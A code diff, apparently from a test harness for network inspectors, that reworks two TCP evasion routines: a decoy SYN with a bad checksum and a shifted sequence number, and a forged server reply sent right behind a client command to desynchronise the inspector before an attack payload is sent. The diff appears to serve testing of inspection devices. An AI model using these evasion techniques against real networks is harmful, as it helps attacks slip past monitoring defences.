@@ -209,9 +209,12 @@ def _decoy(ctx, delta):
 
 def csum_decoy_syn_ahead(ctx):
     """A decoy SYN with a bad checksum and an ISN 100000 ahead of the real one: every real
-    byte lies 'before' the stream the inspector expects."""
-    c, ok = _decoy(ctx, 100000)
-    if not ok:
+    byte lies 'before' the stream the inspector expects. The attack comes right after the
+    greeting (a reply to HELO would reach an inspector that saw no command)."""
+    c = ctx.conn()
+    c.send_raw(c.segment("S", seq=sadd(c.isn, 100000), ack=0, options=[("MSS", 1400)]), bad_tcp_csum=True)
+    time.sleep(0.1)
+    if not c.connect() or not c.reply():
         return False, "session did not open"
     c.send(ATTACK)
     return after(c), ""
@@ -319,10 +322,16 @@ def _learn_then_forge(ctx, command, code, src=None):
         raise RuntimeError("no reply to %r" % command)
     length = len(first) + 2
     forged = (code + " " + "x" * (length - 6)).encode() + b"\r\n"
-    seq = c.rcv_nxt
-    c.send(command, wait=False)
-    c.forge("PA", seq=seq, ack=c.snd_nxt, payload=forged, src=src)
-    c.wait(lambda: c.acked(c.snd_nxt), 1.0)
+    # Both packets made first and sent back to back: the forged reply reaches the inspector
+    # right behind the command, well before the server's own answer.
+    cmd = bytes(c.segment("PA", payload=command))
+    c.snd_nxt = sadd(c.snd_nxt, len(command))
+    fake = c.forged("PA", seq=c.rcv_nxt, ack=c.snd_nxt, payload=forged, src=src)
+    c.link.send(cmd)
+    c.link.send(fake)
+    if not c.wait(lambda: c.acked(c.snd_nxt), 1.0):
+        c.link.send(cmd)
+        c.wait(lambda: c.acked(c.snd_nxt), 1.0)
     c.replies(0.5)
     c.send(ATTACK)
     return c, first.split("\n")[-1][:40]
